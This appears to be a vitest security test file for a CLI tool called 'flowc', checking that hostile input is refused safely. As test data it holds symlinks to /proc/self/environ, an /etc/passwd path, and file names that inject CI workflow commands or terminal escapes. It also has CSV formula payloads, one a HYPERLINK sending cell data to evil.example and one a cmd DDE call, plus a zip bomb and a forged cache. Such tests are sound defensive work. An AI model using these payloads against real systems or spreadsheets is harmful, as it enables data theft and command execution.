/**
 * flowc on untrusted input (docs/security.md): each test plays one attack of issue #21 and
 * proves it fails safely — a clear message, exit 1 or 2, and nothing read, moved, leaked or
 * half-written. The atomic writer's journal and lock attacks are in test/atomic-output.test.ts.
 */
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, describe, expect, it } from 'vitest';
import type { Io } from '../src/cli/io.js';
import { main } from '../src/cli/main.js';
import { repoRoot } from './helpers/corpus.js';

const TSX = pathToFileURL(path.join(repoRoot, 'node_modules/tsx/dist/loader.mjs')).href;
const root = mkdtempSync(path.join(tmpdir(), 'flowc-security-'));
afterAll(() => rmSync(root, { recursive: true, force: true }));

let dirs = 0;
function project(files: Record<string, string>): string {
  const dir = path.join(root, `p${dirs++}`);
  mkdirSync(dir, { recursive: true });
  for (const [f, text] of Object.entries(files)) {
    mkdirSync(path.dirname(path.join(dir, f)), { recursive: true });
    writeFileSync(path.join(dir, f), text);
  }
  return dir;
}

async function run(cwd: string, args: string[], env: Record<string, string> = {}): Promise<{ code: number; out: string; err: string }> {
  let out = '';
  let err = '';
  const io: Io = { cwd, env, isTTY: false, stdout: (t) => void (out += t), stderr: (t) => void (err += t) };
  return { code: await main(args, io), out, err };
}

const GOOD = "SET Greeting TO 'hello'\nDisplay.ShowMessageDialog.ShowMessage Message: Greeting\n";

describe('symbolic links and special files (FC015)', () => {
  it('a link to /proc/self/environ is refused: the environment never reaches the output', () => {
    const dir = project({ 'ok.flow': GOOD });
    symlinkSync('/proc/self/environ', path.join(dir, 'env.flow'));
    // A child process, so that its environment (with the "token") is what /proc/self/environ holds.
    const r = spawnSync(process.execPath, ['--import', TSX, path.join(repoRoot, 'src/cli/main.ts'), 'check', '.', '--format', 'pretty'], {
      cwd: dir,
      env: { ...process.env, CI_TOKEN: 'ghp_SECRETSECRETSECRET' },
      encoding: 'utf8',
      timeout: 60_000,
    });
    expect(r.status).toBe(1);
    expect(r.stdout).toMatch(/env\.flow:1:1 error FC015 input-refused/);
    expect(r.stdout + r.stderr).not.toContain('ghp_SECRET');
    expect(r.stdout + r.stderr).not.toContain('PATH=');
  }, 60_000);

  it('a link out of the checked folder, a dangling link and a FIFO are refused without being opened', async () => {
    const outside = project({ 'secret.flow': "SET Key TO 'outside the project'\n" });
    const dir = project({ 'ok.flow': GOOD });
    symlinkSync(path.join(outside, 'secret.flow'), path.join(dir, 'stolen.flow'));
    symlinkSync(path.join(dir, 'nowhere'), path.join(dir, 'dangling.flow'));
    spawnSync('mkfifo', [path.join(dir, 'pipe.flow')]);
    const r = await run(dir, ['check', '.', '--format', 'json']);
    expect(r.code).toBe(1);
    const diags = (JSON.parse(r.out) as { diagnostics: { file: string; rule: string; message: string }[] }).diagnostics.filter((d) => d.rule === 'FC015');
    expect(diags.map((d) => d.file)).toEqual(['dangling.flow', 'pipe.flow', 'stolen.flow']);
    expect(r.out).not.toContain('outside the project');
  });

  it('a linked folder is not entered, and a link to a file inside the folder is followed', async () => {
    const outside = project({ 'deep/secret.flow': "SET Key TO 'outside'\n" });
    const dir = project({ 'ok.flow': GOOD });
    symlinkSync(outside, path.join(dir, 'linked'));
    symlinkSync(path.join(dir, 'ok.flow'), path.join(dir, 'alias.flow'));
    const r = await run(dir, ['check', '.', '--format', 'json']);
    expect(r.code).toBe(0);
    expect(r.out).not.toContain('secret');
  });

  it('a folder named on the command line that is a link out of the working folder is refused', async () => {
    const outside = project({ 'a.flow': GOOD });
    const dir = project({});
    symlinkSync(outside, path.join(dir, 'flows'));
    const r = await run(dir, ['check', 'flows', '--format', 'json']);
    expect(r.code).toBe(1);
    expect(r.out).toMatch(/symbolic link out of the checked folder/);
  });
});

describe('output injection', () => {
  it('a file name with a line break never starts a line of pretty output (no ::error:: / ::add-mask:: command)', async () => {
    const dir = project({ ['x\n::add-mask::ghp_x\n::error::pwned.flow']: 'GOTO nowhere\n' });
    for (const format of ['pretty', 'github']) {
      const r = await run(dir, ['check', '.', '--format', format]);
      expect(r.code).toBe(1);
      const lines = r.out.split('\n');
      expect(lines.filter((l) => l.startsWith('::add-mask') || l.startsWith('::error::pwned'))).toEqual([]);
      if (format === 'pretty') expect(r.out).toContain('x\\u000a::add-mask::');
    }
  });

  it('a message quoting a line break (an OperationId) stays one line in pretty output', async () => {
    const { renderPretty } = await import('../src/diagnostics/render-pretty.js');
    const { locate } = await import('../src/diagnostics/located.js');
    const doc = { path: 'a.flow', absolutePath: '/a.flow', text: 'SET a TO 1\n', origin: 'file' as const };
    const located = locate([{ doc, diagnostics: [{ rule: 'FC103', severity: 'error', span: { start: 0, end: 3 }, message: "unknown operation 'Get\n::add-mask::secret'", help: 'x\n::error::y' }] }], [doc]);
    const out = renderPretty(located, { files: 1, errors: 1, warnings: 0, infos: 0 }, { color: false, ruleName: () => undefined });
    expect(out.split('\n').some((l) => l.startsWith('::'))).toBe(false);
  });

  it('--format github passes no ESC, BEL or U+202E through', async () => {
    const dir = project({ ['evil\u001b[31m\u0007\u202eflow.flow']: 'GOTO nowhere\n' });
    const r = await run(dir, ['check', '.', '--format', 'github']);
    expect(r.code).toBe(1);
    expect(r.out).not.toMatch(/[\u001b\u0007\u202e]/);
    expect(r.out).toContain('\\u001b');
  });

  it('the CSV report neutralises formulas (OWASP): a flow named =HYPERLINK(…), an owner +cmd|…', async () => {
    const dir = project({
      'a.flow': `FLOW '=HYPERLINK("http://evil.example/?"&A1,"click")'\n    SCHEMA V2\n    OWNER '+cmd|\\' /C calc\\'!A0'\nEND FLOW\nSET a TO 1\nDisplay.ShowMessageDialog.ShowMessage Message: a\n`,
      'b.flow': "FLOW '@SUM(1+1)\u001b]0;title\u0007'\n    SCHEMA V2\n    OWNER '-2+3'\nEND FLOW\nSET a TO 1\nDisplay.ShowMessageDialog.ShowMessage Message: a\n",
    });
    const r = await run(dir, ['report', '--format', 'csv']);
    expect(r.code, r.err).toBe(0);
    const cells = r.out.split('\r\n').slice(1).filter(Boolean).flatMap((row) => row.match(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g) ?? []).map((c) => c.replace(/,$/, '').replace(/^"|"$/g, ''));
    for (const c of cells) expect(c, c).not.toMatch(/^[=+\-@\t\r]/);
    expect(r.out).toContain(`"'=HYPERLINK(`);
    expect(r.out).toContain(`"'+cmd|`);
    expect(r.out).toContain(`"'-2+3"`);
    expect(r.out).not.toMatch(/[\u001b\u0007]/);
  });
});

describe('no exit 3 from input alone', () => {
  it('EXIT followed by 130,000 statements: the pretty renderer shows the FC007 span without spreading its lines', async () => {
    // The renderer alone (the whole check of such a flow is slow on a shared CI runner): a span
    // over 200,000 lines, as FC007 reports after EXIT.
    const { renderPretty } = await import('../src/diagnostics/render-pretty.js');
    const { locate, summarize } = await import('../src/diagnostics/located.js');
    const text = `EXIT\n${'SET a TO 1\n'.repeat(200_000)}`;
    const doc = { path: 'exit.flow', absolutePath: '/exit.flow', text, origin: 'file' as const };
    const located = locate([{ doc, diagnostics: [{ rule: 'FC007', severity: 'warning', span: { start: 5, end: text.length - 1 }, message: 'unreachable' }] }], [doc]);
    const out = renderPretty(located, summarize(located, 1), { color: false, ruleName: () => 'unreachable-code' });
    expect(out).toMatch(/exit\.flow:2:1 warning FC007/);
    expect(out.split('\n').length).toBeLessThan(30);
  });

  it('a 6,000,000-character run of one letter in a secret-named literal does not overflow the secret check', async () => {
    // The check itself on 6,000,000 characters, then a whole flow just under the 4 MiB budget.
    const { documentSecrets } = await import('../src/analysis/document-secrets.js');
    expect(() => documentSecrets(`SET Password TO '${'a'.repeat(6_000_000)}'\n`, undefined)).not.toThrow();
    const dir = project({ 'run.flow': `SET Password TO '${'a'.repeat(4_100_000)}'\nDisplay.ShowMessageDialog.ShowMessage Message: Password\n` });
    const r = await run(dir, ['check', 'run.flow', '--format', 'json']);
    expect(r.err).toBe('');
    expect(r.code).toBe(0);
  }, 120_000);
});

describe('pretty output is linear in the number of diagnostics', () => {
  it('20,000 one-line errors: pretty takes at most twice the time of json (and json is not the slow part)', async () => {
    const { renderPretty } = await import('../src/diagnostics/render-pretty.js');
    const { renderJson } = await import('../src/diagnostics/render-json.js');
    const { locate, summarize } = await import('../src/diagnostics/located.js');
    const text = Array.from({ length: 20_000 }, (_, i) => `GOTO nowhere${i}`).join('\n');
    const doc = { path: 'many.flow', absolutePath: '/many.flow', text, origin: 'file' as const };
    let at = 0;
    const diagnostics = text.split('\n').map((line) => {
      const d = { rule: 'FC004', severity: 'error' as const, span: { start: at, end: at + line.length }, message: `no label '${line.slice(5)}'`, help: 'add the label' };
      at += line.length + 1;
      return d;
    });
    const located = locate([{ doc, diagnostics }], [doc]);
    const summary = summarize(located, 1);
    const time = (f: () => string): number => {
      const t = performance.now();
      f();
      return performance.now() - t;
    };
    const pretty = time(() => renderPretty(located, summary, { color: false, ruleName: () => 'unknown-label' }));
    const json = time(() => renderJson(located, summary));
    // Quadratic rendering took ~15 s here; linear takes well under one.
    expect(pretty).toBeLessThan(Math.max(2 * json, 3000));
  }, 120_000);
});

describe('writers never overwrite their own inputs', () => {
  it('check --output-file a.flow, report --out s.zip, graph --out flowc.config.json, build into the config: refused, nothing written', async () => {
    const { readFileSync, copyFileSync, readdirSync } = await import('node:fs');
    const config = '{ "include": ["**/*.flow", "**/*.zip"] }\n';
    const dir = project({ 'a.flow': GOOD, 'flowc.config.json': config });
    const zip = readdirSync(path.join(repoRoot, 'fixtures/corpus/padframework')).find((f) => f.endsWith('.zip'))!;
    copyFileSync(path.join(repoRoot, 'fixtures/corpus/padframework', zip), path.join(dir, 's.zip'));
    const before = readFileSync(path.join(dir, 's.zip'));
    for (const args of [
      ['check', 'a.flow', '--output-file', 'a.flow'],
      ['check', 'a.flow', '--output-file', './sub/../a.flow'],
      ['report', 's.zip', '--out', 's.zip'],
      ['graph', 'a.flow', '--out', 'flowc.config.json'],
    ]) {
      const r = await run(dir, args);
      expect(r.code, args.join(' ')).toBe(2);
      expect(r.err).toMatch(/refusing to write .*: it is a file this command reads/);
    }
    expect(readFileSync(path.join(dir, 'a.flow'), 'utf8')).toBe(GOOD);
    expect(readFileSync(path.join(dir, 'flowc.config.json'), 'utf8')).toBe(config);
    expect(readFileSync(path.join(dir, 's.zip')).equals(before)).toBe(true);
  }, 60_000);
});

describe('--threads and the fuzzer', () => {
  it('--threads 200 is capped at the core count', async () => {
    const { parseThreads } = await import('../src/cli/commands/check.js');
    expect(parseThreads('200', 2)).toBe(2);
    expect(parseThreads('1', 2)).toBe(1);
    expect(parseThreads('auto', 2)).toBe('auto');
    const dir = project({ 'a.flow': GOOD, 'b.flow': GOOD });
    const r = await run(dir, ['check', '.', '--threads', '200', '--debug']);
    expect(r.code).toBe(0);
    const { availableParallelism } = await import('node:os');
    const used = Number(/on (\d+) thread/.exec(r.err)?.[1]);
    expect(used).toBeLessThanOrEqual(availableParallelism());
  });

  it('npm run fuzz -- --help prints help and runs nothing; an unknown option is refused', () => {
    const help = spawnSync(process.execPath, ['--import', TSX, path.join(repoRoot, 'scripts/fuzz.ts'), '--help'], { encoding: 'utf8', timeout: 60_000 });
    expect(help.status).toBe(0);
    expect(help.stdout).toMatch(/^flowc fuzz: .*\n\nusage: npm run fuzz/);
    expect(help.stdout).not.toMatch(/runs, seed/);
    const bad = spawnSync(process.execPath, ['--import', TSX, path.join(repoRoot, 'scripts/fuzz.ts'), '--rnus', '5'], { encoding: 'utf8', timeout: 60_000 });
    expect(bad.status).toBe(2);
    expect(bad.stderr).toMatch(/unknown option --rnus/);
  }, 60_000);
});

describe('resource budgets', () => {
  it('a zip of a hundred 1 MiB JSON data files (each under the ratio check) is refused by the total data budget', async () => {
    const { writeZip, sampleEntries, customizationsXml } = await import('../scripts/make-hostile-fixtures.js');
    const pad = (i: number): string => `00000000-0000-0000-0000-${String(i).padStart(12, '0')}`;
    const json = `{"a":"${'x'.repeat(1024 * 1024 - 10)}"}`;
    const add = Array.from({ length: 100 }, (_, i) => [
      { name: `desktopflowbinaries/${pad(i)}/desktopflowbinary.xml`, data: `<desktopflowbinary desktopflowbinaryid="${pad(i)}"><data>ManifestFile_${i}.json</data><type>ManifestFile</type></desktopflowbinary>` },
      { name: `desktopflowbinaries/${pad(i)}/data/ManifestFile_${i}.json`, data: json },
    ]).flat();
    const zip = writeZip(sampleEntries({ 'customizations.xml': { data: customizationsXml() } }, add));
    expect(zip.length).toBeLessThan(1024 * 1024);
    const dir = project({});
    writeFileSync(path.join(dir, 'bomb.zip'), zip);
    const r = await run(dir, ['check', 'bomb.zip']);
    expect(r.code).toBe(1);
    expect(r.out).toMatch(/bomb\.zip:1:1 error FC010 unreadable-file\n.*JSON data files are larger than the 16 MiB total limit/);
  }, 60_000);

  it('10,000-deep JSON in a solution\'s metadata is refused before it can overflow the stack (--cache, --threads 2)', async () => {
    const { writeZip, sampleEntries, customizationsXml } = await import('../scripts/make-hostile-fixtures.js');
    const deep = `${'['.repeat(10_000)}${']'.repeat(10_000)}`;
    const xml = customizationsXml().replace('<Metadata>{"schemaVersion":"ROBIN_20211012"}</Metadata>', `<Metadata>{"x":${deep}}</Metadata>`);
    const dir = project({ 'a.flow': GOOD });
    writeFileSync(path.join(dir, 'deep.zip'), writeZip(sampleEntries({ 'customizations.xml': { data: xml } })));
    const r = await run(dir, ['check', 'deep.zip', 'a.flow', '--cache', '--threads', '2', '--format', 'json']);
    expect(r.code).toBe(1);
    const out = JSON.parse(r.out) as { diagnostics: { file: string; rule: string; message: string }[]; summary: { files: number } };
    expect(out.diagnostics.filter((d) => d.rule === 'FC010').map((d) => d.file)).toEqual(['deep.zip']);
    expect(out.diagnostics.find((d) => d.rule === 'FC010')!.message).toMatch(/<Metadata> nests JSON deeper than 128 levels/);
    expect(out.summary.files).toBe(2); // a.flow is still checked
  }, 60_000);

  it('/dev/urandom as a DLP policy, /dev/zero as connections, a FIFO as --cache-location: refused at once', async () => {
    spawnSync('mkfifo', [path.join(root, 'cache-fifo')]);
    const dir = project({
      'a.flow': GOOD,
      'flowc.config.json': JSON.stringify({ dlpPolicies: ['/dev/urandom'] }),
    });
    const t0 = Date.now();
    const dlp = await run(dir, ['check', 'a.flow']);
    expect(dlp.code).toBe(2);
    expect(dlp.err).toMatch(/\/dev\/urandom.*(is in \/dev|is a device)/);
    const conn = project({ 'a.flow': GOOD, 'flowc.config.json': JSON.stringify({ connections: '/dev/zero' }) });
    const access = await run(conn, ['access', 'a.flow']);
    expect(access.code).toBe(2);
    expect(access.err).toMatch(/\/dev\/zero/);
    const cached = await run(project({ 'a.flow': GOOD }), ['check', 'a.flow', '--cache', '--cache-location', path.join(root, 'cache-fifo'), '--debug']);
    expect(cached.code).toBe(0);
    expect(cached.err).toMatch(/previous file ignored: is a FIFO/);
    expect(Date.now() - t0).toBeLessThan(30_000);
  }, 60_000);
});

describe('files a configuration names stay inside the project', () => {
  it('a DLP policy, connections, connector metadata or deployment settings outside the project are refused (exit 2), nothing read or written there', async () => {
    const outside = project({ 'policy.json': '{"not":"read"}', 'settings.json': '{}' });
    const outsideRel = (f: string, from: string): string => path.relative(from, path.join(outside, f));
    const cases: [string, (dir: string) => Record<string, unknown>, string[]][] = [
      ['dlpPolicies', (dir) => ({ dlpPolicies: [outsideRel('policy.json', dir)] }), ['check', 'a.flow']],
      ['environments.*.dlpPolicies', () => ({ environment: 'prod', environments: { prod: { dlpPolicies: ['/etc/passwd'] } } }), ['check', 'a.flow']],
      ['connectors', () => ({ connectors: [path.join(outside, 'policy.json')] }), ['check', 'a.flow']],
      ['connections', (dir) => ({ connections: outsideRel('policy.json', dir) }), ['access', 'a.flow']],
      ['deploymentSettings', (dir) => ({ environment: 'prod', environments: { prod: { deploymentSettings: outsideRel('settings.json', dir) } } }), ['build', 'a.flow', '--out-dir', 'out']],
    ];
    for (const [what, config, args] of cases) {
      const dir = project({ 'a.flow': GOOD });
      writeFileSync(path.join(dir, 'flowc.config.json'), JSON.stringify(config(dir)));
      const r = await run(dir, args);
      expect(r.code, `${what}: ${r.err}`).toBe(2);
      expect(r.err, what).toMatch(/is outside the project \(the folder of flowc\.config\.json\): flowc reads only files inside it/);
      expect(r.err + r.out, what).not.toContain('"not":"read"');
    }
    const { readFileSync } = await import('node:fs');
    expect(readFileSync(path.join(outside, 'settings.json'), 'utf8')).toBe('{}');
  });

  it('a link inside the project to a file outside it is refused the same way', async () => {
    const outside = project({ 'policy.json': '{}' });
    const dir = project({ 'a.flow': GOOD, 'flowc.config.json': JSON.stringify({ dlpPolicies: ['policies/dlp.json'] }) });
    mkdirSync(path.join(dir, 'policies'));
    symlinkSync(path.join(outside, 'policy.json'), path.join(dir, 'policies', 'dlp.json'));
    const r = await run(dir, ['check', 'a.flow']);
    expect(r.code, r.err).toBe(2);
    expect(r.err).toMatch(/policies\/dlp\.json.*is a symbolic link out of the checked folder/);
  });

  it('a file inside the project is read as before', async () => {
    const dir = project({ 'a.flow': GOOD, 'flowc.config.json': JSON.stringify({ dlpPolicies: ['policies/missing.json'] }) });
    const r = await run(dir, ['check', 'a.flow']);
    expect(r.code).toBe(2);
    expect(r.err).toMatch(/file not found: "policies\/missing\.json"/);
  });
});

describe('a forged cache', () => {
  async function forge(mutate: (entry: { result: { diagnostics: unknown[] } }) => void): Promise<{ code: number; out: string; err: string }> {
    const { parseCacheText, cacheEntries, cacheText } = await import('../src/engine/cache.js');
    const { readFileSync } = await import('node:fs');
    const dir = project({ 'a.flow': 'GOTO nowhere\n' });
    const location = path.join(dir, 'c.cache');
    expect((await run(dir, ['check', 'a.flow', '--cache', '--cache-location', location])).code).toBe(1);
    const { header, entries } = cacheEntries(readFileSync(location, 'utf8'));
    const body = entries as Record<string, { result: { diagnostics: unknown[] } }>;
    for (const e of Object.values(body)) mutate(e);
    // The attacker recomputes the checksum: it proves nothing.
    writeFileSync(location, cacheText(header, body));
    expect(parseCacheText(readFileSync(location, 'utf8'), String(header['config'])).discarded).toBeUndefined();
    return run(dir, ['check', 'a.flow', '--cache', '--cache-location', location, '--format', 'json']);
  }

  it('diagnostics [null] do not crash: the entry is analysed again', async () => {
    const r = await forge((e) => (e.result.diagnostics = [null]));
    expect(r.code).toBe(1);
    expect(r.out).toMatch(/FC004/);
  });

  it('out-of-range spans and invented diagnostics are not printed as real ones', async () => {
    const r = await forge((e) => (e.result.diagnostics = [{ rule: 'FC001', severity: 'error', message: 'forged', span: { start: 0, end: 10_000_000 } }]));
    expect(r.code).toBe(1);
    expect(r.out).not.toMatch(/forged/);
    expect(r.out).toMatch(/FC004/);
  });
});

describe('secrets never reach messages of the readers', () => {
  it('a bare token in a DLP policy or deployment settings file is not quoted back; V8\'s excerpt is never shown', async () => {
    const dir = project({
      'a.flow': GOOD,
      'dlp.json': '{ "name": ghp_abcdefghijklmnopqrstuvwxyz0123456789 }',
      'flowc.config.json': JSON.stringify({ dlpPolicies: ['dlp.json'] }),
    });
    const r = await run(dir, ['check', 'a.flow']);
    expect(r.code).toBe(2);
    expect(r.err).toMatch(/dlp\.json.*an unquoted word/);
    expect(r.err).not.toContain('ghp_');
    const conn = project({
      'a.flow': GOOD,
      'meta.json': '{"swagger": "2.0", "info": {"title": "x"}, "x": Password=hunter2hunter2}',
      'flowc.config.json': JSON.stringify({ connectors: ['meta.json'] }),
    });
    const m = await run(conn, ['check', 'a.flow']);
    expect(m.code).toBe(2);
    expect(m.err).toMatch(/meta\.json: cannot read connector metadata: invalid JSON at line 1/);
    expect(m.err).not.toContain('hunter2');
  });
});

describe('flowc diff --output-file', () => {
  it('refuses to write over one of the two sides', async () => {
    const { readFileSync } = await import('node:fs');
    const dir = project({ 'a.flow': GOOD, 'b.flow': `${GOOD}SET x TO 2\n` });
    const r = await run(dir, ['diff', 'a.flow', 'b.flow', '--output-file', 'b.flow']);
    expect(r.code).toBe(2);
    expect(r.err).toMatch(/refusing to write b\.flow: it is a file this command reads/);
    expect(readFileSync(path.join(dir, 'b.flow'), 'utf8')).toBe(`${GOOD}SET x TO 2\n`);
  });
});
